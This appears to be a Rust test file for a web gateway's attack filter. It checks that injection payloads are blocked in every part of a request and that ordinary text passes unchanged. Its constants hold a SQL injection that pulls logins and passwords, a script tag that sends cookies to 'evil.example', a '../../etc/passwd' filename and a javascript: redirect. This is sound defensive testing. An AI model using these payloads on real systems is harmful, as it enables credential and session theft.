//! Requests that look like attacks.

use domain::security::SecurityEventKind;
use gateway::Settings;
use reqwest::{RequestBuilder, Response};
use serde_json::json;

use crate::world::{World, problem, received};

const ATTACK: &str = "1' or '1'='1' union select login, password from credential--";
const SCRIPT: &str = "<script>fetch('//evil.example/'+document.cookie)</script>";

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

fn pair(name: &str, value: &str) -> String {
    format!("{name}={}", escape(value))
}

fn escape(value: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~');
    value
        .bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// The same attack in every place a value can stand.
fn everywhere(world: &World, value: &str) -> Vec<(&'static str, RequestBuilder)> {
    let post = |kind: &str, body: String| {
        world.post("/tickets").bearer_auth("t").header("content-type", kind.to_owned()).body(body)
    };
    let get = |target: &str| world.get(target).bearer_auth("t");
    let multipart = |head: &str, content: &str| {
        let body =
            format!("--bOuNd\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--bOuNd--\r\n");
        post("multipart/form-data; boundary=bOuNd", body)
    };
    let late = format!("{{\"pad\":\"{}\",\"text\":{}}}", "x ".repeat(40_000), json!(value));
    vec![
        ("path", get(&format!("/tickets/{}", escape(&value.replace('/', "|"))))),
        ("query", get(&format!("/tickets?{}", pair("q", value)))),
        ("header", get("/tickets").header("x-note", value)),
        ("agent", get("/tickets").header("user-agent", value)),
        ("cookie", get("/tickets").header("cookie", format!("theme={}", value.replace(';', "%3B")))),
        ("form", post(FORM, pair("text", value))),
        ("json", post(JSON, json!({ "items": [{ "text": value }] }).to_string())),
        ("json key", post(JSON, json!({ value: 1 }).to_string())),
        ("json late", post(JSON, late)),
        ("multipart", multipart("name=\"text\"", value)),
        ("file name", multipart("name=\"file\"; filename=\"../../etc/passwd\"", "harmless")),
        ("text", post("text/plain", value.to_owned())),
        ("untyped", world.post("/tickets").bearer_auth("t").body(value.to_owned())),
    ]
}

async fn send(request: RequestBuilder) -> Response {
    request.send().await.unwrap()
}

#[tokio::test]
async fn an_attack_is_refused_wherever_it_stands() {
    let world = World::signed_in("t").await;
    for value in [ATTACK, SCRIPT] {
        let mut passed = Vec::new();
        for (place, request) in everywhere(&world, value) {
            let answer = send(request).await;
            if answer.status() != 403 || problem(answer).await != "403 request-blocked" {
                passed.push(place);
            }
        }
        assert!(passed.is_empty(), "{passed:?}: {value}");
    }
}

#[tokio::test]
async fn who_is_not_signed_in_is_looked_at_as_well() {
    let world = World::start().await;
    let query = format!("/tickets?{}", pair("q", ATTACK));
    for target in [query.as_str(), "/login?next=javascript%3Aalert(document.cookie)//"] {
        assert_eq!(problem(send(world.get(target)).await).await, "403 request-blocked", "{target}");
    }
    let sign_in = world.post("/api/v1/session").header("content-type", JSON);
    let body = json!({ "login": ATTACK, "password": "x" }).to_string();
    assert_eq!(problem(send(sign_in.body(body)).await).await, "403 request-blocked");
}

#[tokio::test]
async fn what_people_write_passes_as_it_was_sent() {
    let world = World::signed_in("t").await;
    for text in [
        "O'Brien's gate won't close; see the drawing & call back",
        "Select the key from the cabinet, then drop it off where Smith can find it -- thanks!",
        "Tür klemmt; „Fenster“ <offen>? Preis: 5 < 6, also > 3",
        "if (a < b) { return \"x\"; } // the script of the panel",
        "ключ потерян; позвоните, пожалуйста",
    ] {
        let body = json!({ "title": text, "nested": { "list": [text, 1, null] } }).to_string();
        let sent = world.post("/tickets").bearer_auth("t").header("content-type", JSON).body(body.clone());
        assert_eq!(received(send(sent).await).await.body, body);
        let target = format!("/tickets?{}", pair("q", text));
        assert_eq!(received(send(world.get(&target).bearer_auth("t")).await).await.target, target);
    }
}

#[tokio::test]
async fn the_reason_is_told_with_who_and_without_what_may_be_a_credential() {
    let world = World::start().await;
    let known = world.auth.sign_in("t");
    let target = format!("/tickets?{}", pair("q", ATTACK));
    let answer = send(world.get(&target).bearer_auth("t")).await;
    assert_eq!(answer.status(), 403);
    let event = world.auth.event(SecurityEventKind::RequestBlocked).await;
    assert_eq!((event.client_id, event.person_id), (Some(known.client_id), Some(known.person_id)));
    assert_eq!(event.detail["class"], "sql-injection");
    assert_eq!(event.detail["place"], "query:q");
    assert!(event.detail["rule"].is_string());
    assert!(event.detail["score"].as_u64().unwrap() >= 10);
    assert!(event.detail["excerpt"].as_str().unwrap().starts_with("1\\'"), "{}", event.detail);
    let world = World::start().await;
    send(world.get("/login").header("x-token", ATTACK)).await;
    let event = world.auth.event(SecurityEventKind::RequestBlocked).await;
    assert_eq!((event.client_id, &event.detail["excerpt"]), (None, &serde_json::Value::Null));
}

#[tokio::test]
async fn a_password_may_look_like_anything() {
    let world = World::start().await;
    let body = json!({ "login": "supervisor", "password": ATTACK }).to_string();
    let sign_in = world.post("/api/v1/session").header("content-type", JSON).body(body.clone());
    assert_eq!(received(send(sign_in).await).await.body, body);
    world.auth.sign_in("t");
    let change = json!({ "current": ATTACK, "new": SCRIPT }).to_string();
    let change = world
        .request(reqwest::Method::PUT, "/api/v1/account/password")
        .bearer_auth("t")
        .header("content-type", JSON)
        .body(change);
    assert_eq!(send(change).await.status(), 200);
}

#[tokio::test]
async fn monitoring_lets_pass_and_tells() {
    let world = World::with(|settings| settings.inspection.mode = inspect::Mode::Monitor).await;
    world.auth.sign_in("t");
    let target = format!("/tickets?{}", pair("q", ATTACK));
    assert_eq!(received(send(world.get(&target).bearer_auth("t")).await).await.target, target);
    let event = world.auth.event(SecurityEventKind::RequestSuspected).await;
    assert_eq!(event.detail["class"], "sql-injection");
    assert!(world.auth.events(SecurityEventKind::RequestBlocked).is_empty());
}

fn off_below_notes(settings: &mut Settings) {
    let mut route = settings.routes.iter().find(|route| route.prefix == "/").unwrap().clone();
    route.prefix = "/notes".to_owned();
    route.inspect = Some(inspect::Mode::Off);
    settings.routes.push(route);
    settings.inspection.exemptions.push(gateway::Exemption {
        prefix: "/tickets".to_owned(),
        place: Some(inspect::Place::Query),
        name: "code".to_owned(),
        classes: vec![inspect::Class::SqlInjection],
        mode: inspect::Mode::Off,
    });
}

#[tokio::test]
async fn a_route_and_a_field_may_be_looked_at_otherwise() {
    let world = World::with(off_below_notes).await;
    world.auth.sign_in("t");
    let status = async |path: &str, name: &str, value: &str| {
        let target = format!("{path}?{}", pair(name, value));
        send(world.get(&target).bearer_auth("t")).await.status().as_u16()
    };
    assert_eq!(status("/notes", "q", ATTACK).await, 200);
    assert_eq!(status("/notes/1", "q", SCRIPT).await, 200);
    assert_eq!(status("/tickets", "code", ATTACK).await, 200);
    assert_eq!(status("/tickets/1", "code", ATTACK).await, 200);
    assert_eq!(status("/tickets", "code", SCRIPT).await, 403, "the exemption is for one class");
    assert_eq!(status("/tickets", "q", ATTACK).await, 403);
    assert_eq!(status("/elsewhere", "code", ATTACK).await, 403);
}

#[tokio::test]
async fn a_body_that_is_not_what_it_says_is_malformed_and_nothing_else() {
    let world = World::signed_in("t").await;
    for body in ["{", "{\"a\":1,}", "[1", "\"open"] {
        let request = world.post("/tickets").bearer_auth("t").header("content-type", JSON).body(body);
        assert_eq!(problem(send(request).await).await, "400 malformed-body", "{body}");
    }
    let deep = "[".repeat(200) + &"]".repeat(200);
    let request = world.post("/tickets").bearer_auth("t").header("content-type", JSON).body(deep);
    let status = send(request).await.status();
    assert!(status == 400 || status == 403, "{status}");
    let request = world
        .post("/tickets")
        .bearer_auth("t")
        .header("content-type", "application/json; charset=utf-16")
        .body("{}");
    let status = send(request).await.status();
    assert!(status == 400 || status == 403, "{status}");
}
